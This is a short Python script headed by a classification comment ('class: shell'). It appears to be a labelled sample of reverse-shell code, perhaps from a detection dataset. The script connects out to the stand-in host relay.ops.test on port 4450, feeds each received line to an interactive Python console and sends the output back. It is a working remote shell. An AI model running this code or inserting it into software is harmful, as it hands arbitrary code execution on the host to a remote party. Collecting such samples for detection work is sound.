# class: shell; possible: low medium; style: code module, console on a socket
import code
import contextlib
import io
import socket

console = code.InteractiveConsole({"__name__": "__remote__"})
with socket.create_connection(("relay.ops.test", 4450), timeout=40) as s:
    for line in s.makefile("r"):
        out = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            more = console.push(line.rstrip("\r\n"))
        s.sendall((out.getvalue() + ("... " if more else ">>> ")).encode())
